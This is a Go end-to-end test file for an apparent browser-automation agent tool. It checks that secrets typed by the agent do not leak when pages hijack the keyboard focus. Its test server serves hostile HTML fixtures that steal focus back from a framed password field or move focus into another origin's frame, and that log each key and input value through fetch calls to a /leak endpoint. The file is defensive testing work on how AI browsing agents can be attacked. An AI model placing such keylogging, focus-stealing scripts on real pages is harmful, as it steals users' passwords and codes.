//go:build linux

package e2e

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/browserd/browserd/internal/tool"
)

// focusThief serves the pages of the focus drills on two origins of one
// server — http://127.0.0.1:PORT (A, the secret's) and
// http://localhost:PORT (B) — and records every /leak request the pages'
// key and input handlers make.
type focusThief struct {
	srv   *httptest.Server
	mu    sync.Mutex
	leaks []string
}

func newFocusThief(t *testing.T) *focusThief {
	f := &focusThief{}
	f.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		a, b := f.originA(), f.originB()
		switch r.URL.Path {
		case "/leak":
			f.mu.Lock()
			f.leaks = append(f.leaks, r.URL.RawQuery)
			f.mu.Unlock()
		case "/b": // B frames A's form and takes the focus back 5 ms after its window blurs
			fmt.Fprintf(w, `<!doctype html><title>B</title>
<input id=binp aria-label="B field" oninput="fetch('/leak?b=' + encodeURIComponent(this.value))" onkeydown="fetch('/leak?k=' + encodeURIComponent(event.key))">
<iframe src="%s/a" width=400 height=120></iframe>
<script>addEventListener('blur', () => setTimeout(() => document.getElementById('binp').focus(), 5));</script>`, a)
		case "/b-plain": // B frames A's form and leaves the focus alone
			fmt.Fprintf(w, `<!doctype html><title>B</title><input aria-label="B field"><iframe src="%s/a" width=400 height=120></iframe>`, a)
		case "/code": // a one-time code in one-digit boxes: the page moves the focus on
			fmt.Fprint(w, `<!doctype html><title>Code</title><label>Code <input id=d0 maxlength=1></label>
<input id=d1 maxlength=1 aria-label=d1><input id=d2 maxlength=1 aria-label=d2><input id=d3 maxlength=1 aria-label=d3>
<script>for (let i = 0; i < 3; i++) document.getElementById('d' + i).addEventListener('input', () => setTimeout(() => document.getElementById('d' + (i + 1)).focus(), 0));</script>`)
		case "/a":
			fmt.Fprint(w, `<!doctype html><title>A</title><label>Password <input id=pw></label>`)
		case "/a2": // A moves the focus into B's frame on the first key or input
			fmt.Fprintf(w, `<!doctype html><title>A2</title><label>Password <input id=pw></label>
<iframe id=c src="%s/c" width=400 height=120></iframe>
<script>
const pw = document.getElementById('pw'), c = document.getElementById('c');
let moved = false;
const move = () => { if (!moved) { moved = true; c.contentWindow.focus(); c.focus(); } };
pw.addEventListener('keydown', move); pw.addEventListener('input', move);
</script>`, b)
		case "/c":
			fmt.Fprint(w, `<!doctype html><title>C</title>
<input id=cin aria-label="C field" oninput="fetch('/leak?c=' + encodeURIComponent(this.value))" onkeydown="fetch('/leak?k=' + encodeURIComponent(event.key))">
<p id=shown></p>
<script>const cin = document.getElementById('cin');
addEventListener('focus', () => cin.focus());
cin.addEventListener('input', () => { document.getElementById('shown').textContent = 'C got ' + cin.value; });</script>`)
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(f.srv.Close)
	return f
}

func (f *focusThief) originA() string { return f.srv.URL }
func (f *focusThief) originB() string {
	return strings.Replace(f.srv.URL, "127.0.0.1", "localhost", 1)
}

func (f *focusThief) reset() {
	f.mu.Lock()
	f.leaks = nil
	f.mu.Unlock()
}

func (f *focusThief) leaked() []string {
	f.mu.Lock()
	defer f.mu.Unlock()
	return append([]string(nil), f.leaks...)
}

// runsOf are the runs of 4 characters of s.
func runsOf(s string) []string {
	var out []string
	for i := 0; i+4 <= len(s); i++ {
		out = append(out, s[i:i+4])
	}
	return out
}

// noRunIn fails the test when any text of r holds a run of 4 characters
// of the secret's value.
func noRunIn(t *testing.T, what string, r tool.Result, value string) {
	t.Helper()
	for _, s := range append(append([]string{r.Content, r.Error, r.Title, r.URL}, r.Notes...), r.Details...) {
		for _, run := range runsOf(value) {
			if strings.Contains(s, run) {
				t.Errorf("%s shows %q of the secret: %q", what, run, s)
				break
			}
		}
	}
}

// TestSecretFocusStolen (issue 36 point 1): every key of a secret goes to
// a field of a bound origin, or none does. A page on B frames A's form
// and takes the focus back 5 ms after its window blurs: B's field and B's
// server get nothing of the secret, and the answer fails saying the focus
// moved. A page on A that moves the focus into B's frame on the first
// key or input: that frame gets nothing, and no snapshot shows a part of
// the secret.
func TestSecretFocusStolen(t *testing.T) {
	// Long enough that keys typed one by one outlast the page's 5 ms.
	const value = "Qx7Vw9Lm2Zr8Kp4Tn6Hj3Bd5Gf1Sa0Yc7Ue9Io2Pw4Rk8Ml6Nb3Vz5Xq1Hs0Jt"
	f := newFocusThief(t)
	cfg := testConfig(t)
	e, do := newEngine(t, cfg)
	if _, err := e.SetSecret(context.Background(), "A_PW", value, []string{f.originA()}); err != nil {
		t.Fatal(err)
	}
	in := func(in tool.Input) tool.Input { in.Task = "focus"; return in }

	// A page that does nothing of the kind: the secret is typed into
	// another origin's frame that is its origin, and into a one-time
	// code's boxes the page moves the focus through.
	t.Run("framed", func(t *testing.T) {
		do(in(tool.Input{Action: "navigate", URL: f.originB() + "/b-plain"}))
		snap := do(in(tool.Input{Action: "snapshot"}))
		r := do(in(tool.Input{Action: "type", Ref: ref(t, snap.Content, "textbox", "Password"), Secret: "A_PW"}))
		noRunIn(t, "type", r, value)
		if !r.Success || !strings.Contains(do(in(tool.Input{Action: "snapshot"})).Content, "<secret A_PW>") {
			t.Errorf("type into a frame of the secret's origin: ok=%v err=%q %s", r.Success, r.Error, r.Content)
		}
	})
	t.Run("code_boxes", func(t *testing.T) {
		if _, err := e.SetSecret(context.Background(), "CODE", "4829", []string{f.originA()}); err != nil {
			t.Fatal(err)
		}
		do(in(tool.Input{Action: "navigate", URL: f.originA() + "/code"}))
		r := do(in(tool.Input{Action: "type", Role: "textbox", Name: "Code", Secret: "CODE"}))
		got := do(in(tool.Input{Action: "evaluate", Expression: "[0,1,2,3].map(i => document.getElementById('d' + i).value).join('-')"}))
		if !r.Success || !strings.Contains(got.Content, "4-8-2-9") {
			t.Errorf("a secret code into one-digit boxes: ok=%v err=%q; boxes %s", r.Success, r.Error, got.Content)
		}
	})

	t.Run("stolen_back", func(t *testing.T) {
		f.reset()
		do(in(tool.Input{Action: "navigate", URL: f.originB() + "/b"}))
		snap := do(in(tool.Input{Action: "snapshot"}))
		pw := ref(t, snap.Content, "textbox", "Password")
		r := do(in(tool.Input{Action: "type", Ref: pw, Secret: "A_PW"}))
		noRunIn(t, "type", r, value)
		if r.Success || !strings.Contains(r.Error, "focus") {
			t.Errorf("type into a frame whose parent takes the focus back: ok=%v err=%q, want a failure that says the focus moved", r.Success, r.Error)
		}
		if l := f.leaked(); len(l) > 0 {
			t.Errorf("B's page heard the secret's keys: %q", l)
		}
		got := do(in(tool.Input{Action: "evaluate", Expression: "document.getElementById('binp').value.length === 0 ? 'B-EMPTY' : 'B-FULL'"}))
		if !strings.Contains(got.Content, "B-EMPTY") {
			t.Errorf("B's field holds characters: %s", got.Content)
		}
		noRunIn(t, "snapshot", do(in(tool.Input{Action: "snapshot"})), value)
	})

	t.Run("moved_into_frame", func(t *testing.T) {
		f.reset()
		do(in(tool.Input{Action: "navigate", URL: f.originA() + "/a2"}))
		snap := do(in(tool.Input{Action: "snapshot"}))
		pw := ref(t, snap.Content, "textbox", "Password")
		r := do(in(tool.Input{Action: "type", Ref: pw, Secret: "A_PW"}))
		noRunIn(t, "type", r, value)
		if l := f.leaked(); len(l) > 0 {
			t.Errorf("B's frame heard the secret's keys: %q", l)
		}
		noRunIn(t, "snapshot", do(in(tool.Input{Action: "snapshot"})), value)
		if r.Success || !strings.Contains(r.Error, "focus") {
			t.Errorf("type whose page moved the focus into another origin's frame: ok=%v err=%q, want a failure that says the focus moved; %s", r.Success, r.Error, r.Content)
		}
	})
}
